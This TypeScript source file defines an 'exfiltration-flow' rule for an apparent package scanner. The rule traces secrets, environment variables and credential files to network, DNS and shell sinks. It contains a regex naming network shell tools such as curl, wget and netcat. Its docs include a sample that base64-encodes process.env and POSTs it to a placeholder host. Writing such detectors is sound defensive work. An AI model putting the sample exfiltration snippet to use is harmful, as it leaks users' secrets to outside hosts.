import type { Node } from '@babel/types';
import { defineRule, type CallInfo, type FileContext } from '../src/engine/rule.js';
import { HOLE } from '../src/engine/evaluate.js';
import { describePath, type Hop, type Taint } from '../src/engine/flows.js';
import { DNS_CALLS, NETWORK_CALLS, STREAM_WRITE, destinationOf, normalizeChain } from '../src/engine/network-calls.js';
import { EXFIL_ENDPOINTS, RAW_IP_URL, isPublicIPv4, matchIndicator } from '../src/engine/indicators.js';
import type { Severity, Signal } from '../src/types.js';

const EXEC = /^child_process\.(?:exec|execSync|execFile|execFileSync|spawn|spawnSync)$/;
const NET_TOOL = /\b(?:curl|wget|nc|ncat|netcat|nslookup|dig|host|ping|Invoke-WebRequest|iwr|irm)\b/i;

interface Sink {
  kind: 'network' | 'dns' | 'shell-network';
  args: Node[];
  destination?: string;
}

function dataArgs(call: CallInfo): Node[] {
  return call.node.arguments.filter((a): a is Exclude<typeof a, { type: 'ArgumentPlaceholder' }> => a.type !== 'ArgumentPlaceholder' && a.type !== 'FunctionExpression' && a.type !== 'ArrowFunctionExpression') as Node[];
}

function sinkOf(call: CallInfo, ctx: FileContext): Sink | undefined {
  if (!call.callee) return undefined;
  const callee = normalizeChain(call.callee);
  const dest = () => destinationOf(call.node.arguments as Node[], ctx.evaluator);
  if (NETWORK_CALLS.test(callee)) return { kind: 'network', args: dataArgs(call), destination: dest() };
  if (STREAM_WRITE.test(callee)) return { kind: 'network', args: dataArgs(call) };
  if (DNS_CALLS.test(callee)) return { kind: 'dns', args: dataArgs(call).slice(0, 1), destination: dest() };
  if (EXEC.test(callee)) {
    const args = dataArgs(call).filter((a) => a.type !== 'ObjectExpression');
    const text = args.map((a) => ctx.evaluator.foldLoose(a) ?? HOLE).join(' ');
    // A command line without a network tool is not a sink: tools pass env and paths to programs.
    return NET_TOOL.test(text) ? { kind: 'shell-network', args } : undefined;
  }
  return undefined;
}

/** Is the destination a host we can name that is not a known drop? (an API client's own host) */
function namedHost(dest: string | undefined): string | undefined {
  if (!dest) return undefined;
  if (matchIndicator(EXFIL_ENDPOINTS, dest)) return undefined;
  const ip = RAW_IP_URL.exec(dest);
  if (ip && isPublicIPv4(ip[1]!)) return undefined;
  const m = /^(?:[a-z][a-z0-9+.-]*:\/\/)?([a-z0-9.-]+\.[a-z]{2,})(?:[:/]|$)/i.exec(dest);
  return m && !m[1]!.includes(HOLE) ? m[1] : undefined;
}

const SINK_TEXT: Record<Sink['kind'], string> = {
  network: 'the network',
  dns: 'a DNS query',
  'shell-network': 'a shell network command',
};

export default defineRule({
  meta: {
    id: 'exfiltration-flow',
    title: 'Sensitive data flows to the network',
    description:
      "Follows data from sensitive sources (the whole environment, secret-named variables, credential files, output of commands such as `gh auth token`, host identity) through variables, object writes, transforms (JSON, Buffer, base64, string building), function calls and returns, callbacks and module boundaries, to network sinks (http/https/net/tls, fetch, axios and other clients, request streams, DNS queries, shell commands that use curl/wget/nslookup). Each finding carries the path from source to sink. A secret-named variable sent to a named host is reported low: that is what API clients do.",
    severity: 'critical',
    category: 'network',
    references: ['https://attack.mitre.org/techniques/T1041/', 'https://attack.mitre.org/techniques/T1552/001/'],
    docs: {
      example: "const data = JSON.stringify(process.env);\nconst req = https.request({ host: 'collector.invalid', method: 'POST' });\nreq.end(Buffer.from(data).toString('base64'));",
      suppress: 'Turn the rule off for a run with `tollgate scan --disable-rule exfiltration-flow`; its findings then neither show nor count toward the score.',
    },
  },
  create() {
    return {
      call(call, ctx) {
        const sink = sinkOf(call, ctx);
        if (!sink || sink.args.length === 0) return;
        const seen = new Set<string>();
        const sinkHop: Hop = { file: ctx.path, line: call.node.loc?.start.line ?? 0, note: `${call.callee}(…)` };
        for (const arg of sink.args) {
          for (const t of ctx.flows.taintOf(arg)) {
            const key = `${t.kind}\0${t.label}`;
            if (seen.has(key)) continue;
            seen.add(key);
            report(ctx, call, sink, t, sinkHop);
          }
        }
      },
    };
  },
});

function report(ctx: FileContext, call: CallInfo, sink: Sink, t: Taint, sinkHop: Hop): void {
  const host = sink.kind === 'network' ? namedHost(sink.destination) : undefined;
  let severity: Severity;
  let signals: Signal[];
  switch (t.kind) {
    case 'env-bulk':
    case 'credential-file':
    case 'command-output':
    case 'browser-store':
      severity = 'critical';
      signals = ['flow:secret'];
      break;
    case 'env-secret':
      severity = host ? 'low' : 'high';
      signals = host ? [] : ['flow:token'];
      break;
    case 'fingerprint':
      severity = ctx.reach === 'install' ? 'high' : 'medium';
      signals = ['flow:fingerprint'];
      break;
  }
  const dest = sink.destination && sink.destination.split(HOLE).join('').trim() ? sink.destination : undefined;
  const to = host ? `${SINK_TEXT[sink.kind]} (${host})` : dest ? `${SINK_TEXT[sink.kind]} (${dest.split(HOLE).join('…').slice(0, 80)})` : SINK_TEXT[sink.kind];
  const note = t.kind === 'env-secret' && host ? ': a token sent to its own API host is what SDKs do' : '';
  ctx.report({
    node: call.node,
    message: `${t.label} flows to ${to}${note}: ${describePath(t, sinkHop)}`,
    severity,
    signals,
  });
}
